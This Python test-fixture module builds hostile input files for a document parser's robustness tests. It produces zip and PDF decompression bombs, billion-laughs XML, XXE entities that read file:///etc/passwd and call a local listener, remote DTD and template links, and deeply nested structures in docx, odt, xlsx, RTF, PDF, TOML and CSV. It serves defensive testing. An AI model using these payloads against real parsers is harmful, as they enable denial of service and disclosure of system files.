"""Files made to do harm: a few bytes that claim, nest or unpack to far more."""

# ruff: noqa: E501 (what is harmful is seen best in one line)

import zipfile
import zlib

_TEXT = {".txt", ".md", ".vtt", ".srt", ".rtf", ".csv"}
_ZERO = b"0" * 1_000_000
_LOL = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


def _zip(path, entries):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


def _changed(seed, path, name, change):
    with zipfile.ZipFile(seed) as archive:
        entries = {one: archive.read(one) for one in archive.namelist()}
    entries[name] = change(entries[name].decode("utf-8")).encode("utf-8")
    _zip(path, entries)


def _pdf(path, objects):
    body, places = b"%PDF-1.4\n", []
    for number, data in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, len(body),
    )  # fmt: skip
    path.write_bytes(
        body + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + trailer
    )


def _stream(data, extra=b""):
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def _page(content):
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /F 4 0 R >> >> >>",
        content,
    ]


def make(folder, seeds, address, most=10**9):
    """Write the files and return their paths.

    Parameters
    ----------
    folder, seeds : Path
        Where they go, and where the valid files are.
    address : str
        Where somebody listens whom no reader should call: ``127.0.0.1:PORT``.
    most : int
        Bytes of a file of text, which is cut there: what grows too fast shows in less, too.
    """
    before = set(folder.iterdir())
    _zip(folder / "unpacks.docx", {"word/document.xml": _ZERO * 201})
    _zip(
        folder / "many.docx",
        {"word/document.xml": "<a/>"} | {f"{n}.xml": _ZERO for n in range(201)},
    )
    _zip(folder / "unpacks.odt", {"content.xml": _ZERO * 201})
    _zip(folder / "unpacks.qdpx", {"project.qde": _ZERO * 60})
    _zip(folder / "sheet_unpacks.xlsx", {"xl/workbook.xml": _ZERO * 201})
    word, sheet = "word/document.xml", "xl/worksheets/sheet1.xml"
    deep = min(100_000, most)
    outer = f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{address}/e"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    remote = f'<!DOCTYPE x SYSTEM "http://{address}/x.dtd">'
    for name, before_root in (("laughs", _LOL), ("outer", outer), ("remote", remote)):

        def with_dtd(xml, dtd=before_root):
            head, _, rest = xml.rpartition("?>") if xml.startswith("<?xml") else ("", "", xml)
            marked = (
                rest.replace("Rajapinnat", "Rajapinnat &e;&f;&i;", 1) if "ENTITY" in dtd else rest
            )
            return f"{head}{'?>' * bool(head)}{dtd}{marked}"

        _changed(seeds / "interview.docx", folder / f"{name}.docx", word, with_dtd)
        _changed(seeds / "interview.odt", folder / f"{name}.odt", "content.xml", with_dtd)
        _changed(seeds / "statements.xlsx", folder / f"{name}.xlsx", sheet, with_dtd)
        _changed(seeds / "sheet_anna.xlsx", folder / f"sheet_{name}.xlsx", sheet, with_dtd)
        _changed(seeds / "other.qdpx", folder / f"{name}.qdpx", "project.qde", with_dtd)
        codes = (seeds / "codes.qdc").read_text("utf-8")
        (folder / f"{name}.qdc").write_text(with_dtd(codes), "utf-8")
    link = f'<Relationship Id="rId99" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://{address}/t.dotx"/>'
    _changed(seeds / "interview.docx", folder / "template.docx", "word/_rels/document.xml.rels",
             lambda xml: xml.replace("</Relationships>", link + "</Relationships>"))  # fmt: skip
    _changed(seeds / "interview.docx", folder / "deep.docx", word,
             lambda xml: xml.replace("<w:body>", "<w:body>" + "<w:sdt>" * deep + "</w:sdt>" * deep))  # fmt: skip
    _changed(seeds / "interview.docx", folder / "deepish.docx", word,
             lambda xml: xml.replace("<w:p>", "<w:p>" + "<w:r>" * 200 + "</w:r>" * 200, 1))  # fmt: skip
    for depth in (900, deep):
        span = '<text:span text:style-name="x">' * depth + "a" + "</text:span>" * depth
        _changed(seeds / "interview.odt", folder / f"deep{depth}.odt", "content.xml",
                 lambda xml, span=span: xml.replace("V: ", span + "V: ", 1))  # fmt: skip
        section = "<text:section>" * depth + "<text:p>V: a</text:p>" + "</text:section>" * depth
        _changed(seeds / "interview.odt", folder / f"sections{depth}.odt", "content.xml",
                 lambda xml, section=section: xml.replace("<office:text>", "<office:text>" + section, 1))  # fmt: skip
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    for name in ("statements", "sheet_anna"):
        _changed(seeds / f"{name}.xlsx", folder / f"{name}_far.xlsx", sheet,
                 lambda xml: xml.replace("</sheetData>", far))  # fmt: skip
    (folder / "deep.rtf").write_bytes(b"{\\rtf1 " + b"{" * 1_000_000 + b"V: a" + b"}" * 1_000_000)
    (folder / "bin.rtf").write_bytes(b"{\\rtf1 \\bin99999999999999999999 V: a\\u99999999999?\\'zz}")
    (folder / "bold.rtf").write_bytes(b"{\\rtf1 " + b"\\b a\\b0 b" * 200_000 + b"}")
    (folder / "tags.vtt").write_bytes(
        b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + b"<v " * 300_000 + b"\n"
    )
    (folder / "open.vtt").write_bytes(
        b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + b"<c.a" * 300_000 + b"\n"
    )
    (folder / "voice.vtt").write_bytes(
        b"WEBVTT\n\n00:00.000 --> 00:01.000\n<v" + b".a" * 300_000 + b"\n"
    )
    (folder / "arrows.srt").write_bytes(
        b"1\n00:00:00,000 --> 00:00:01,000\n" + b"-->" * 300_000 + b"\n"
    )
    for name, text in {
        "colons": "a:" * 500_000, "spaces": "V: " + " " * 1_000_000 + "x", "dots": "V: " + "." * 1_000_000,
        "words": "V: " + "a" * 1_000_000, "dashes": "a-" * 500_000, "brackets": "[" * 1_000_000,
        "parens": "(" * 1_000_000, "lines": "\n" * 999_000 + "V: x", "labels": "V: x\nH: y\n" * 100_000,
        "turns": "".join(f"P{n}: x\n" for n in range(80_000)), "quotes": '"' * 1_000_000,
        "marks": "\u0301" * 500_000, "breaks": "a-\nb" * 200_000, "pages": "\x0c12\n" * 100_000,
        "caps": "ABC " * 250_000, "digits": "1" * 1_000_000, "numbers": "1. " * 300_000,
    }.items():  # fmt: skip
        (folder / f"{name}.txt").write_text(text, "utf-8")
        if name in ("spaces", "lines", "brackets", "breaks"):
            (folder / f"{name}.md").write_text(text, "utf-8")
    (folder / "field.csv").write_text('document,text\nh,"' + "a" * 1_000_000 + '"\n', "utf-8")
    (folder / "columns.csv").write_text("text" + "," * 900_000 + "\na\n", "utf-8")
    (folder / "codebook_columns.csv").write_text(
        "code" + ",a" * 400_000 + "\n" + "x," * 400_000 + "\n"
    )
    (folder / "codebook_field.csv").write_text('code,name\na,"' + "b" * 900_000 + '"\n')
    (folder / "codebook_parents.csv").write_text(
        "code,parent\n" + "".join(f"k{n},{f'k{n - 1}' if n else ''}\n" for n in range(3_000))
    )
    (folder / "sheet_columns.csv").write_text("statement_id,theme" + ",x" * 300_000 + "\na,b\n")
    (folder / "sheet_names.csv").write_text(
        "statement_id,theme" + "".join(f",c{n}" for n in range(100_000)) + "\na,b\n"
    )
    (folder / "names.csv").write_text(
        "text" + "".join(f",c{n}" for n in range(100_000)) + "\na,b\n"
    )
    (folder / "sheet_rows.csv").write_text("row;statement_id;theme\n1 (999999999999);h:1;a\n")
    (folder / "deep.toml").write_text("name = " + "[" * 100_000, "utf-8")
    (folder / "tables.toml").write_text("[" + ".".join("a" * 20_000) + "]\n", "utf-8")
    (folder / "digits.toml").write_text("name = " + "9" * 100_000, "utf-8")
    (folder / "step.toml").write_text("[scale]\n" + "9" * 10_000 + ' = "x"\n', "utf-8")
    code = '<Code guid="11111111-1111-1111-1111-111111111111" name="k" isCodable="true">'
    codes = f"<Codes>{code * 50_000}{'</Code>' * 50_000}</Codes>"
    (folder / "deep.qdc").write_text(
        f'<CodeBook xmlns="urn:QDA-XML:codebook:1.0">{codes}</CodeBook>'
    )
    _zip(
        folder / "deep.qdpx",
        {
            "project.qde": f'<Project xmlns="urn:QDA-XML:project:1.0" name="x"><CodeBook>{codes}</CodeBook></Project>'
        },
    )
    _zip(
        folder / "json.qdpx",
        {
            "project.qde": '<Project xmlns="urn:QDA-XML:project:1.0" name="x"/>',
            "aineisto.json": "[" * 1_000_000,
        },
    )
    flate = b"/Filter /FlateDecode "
    bomb = zlib.compress(_ZERO * 200, 6)
    _pdf(folder / "flate.pdf", _page(_stream(bomb, flate)))
    _pdf(
        folder / "twice.pdf",
        _page(_stream(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode] ")),
    )
    _pdf(folder / "operators.pdf", _page(_stream(b"BT (a) Tj ET " * 70_000)))
    _pdf(folder / "arrays.pdf", _page(_stream(b"[" * 900_000)))
    form = _stream(
        b"/F Do /F Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /F 4 0 R >> >> "
    )
    _pdf(folder / "itself.pdf", _page(form))
    kids = b"<< /Type /Pages /Kids [" + b"2 0 R " * 1_000 + b"] /Count 999999999 >>"
    _pdf(folder / "kids.pdf", [_page(b"")[0], kids])
    _pdf(folder / "nested.pdf", [_page(b"")[0], b"<< /Kids " * 50_000])
    made = sorted(set(folder.iterdir()) - before)
    for path in made:
        if path.suffix in _TEXT and path.stat().st_size > most:
            path.write_bytes(path.read_bytes()[:most])
    return made
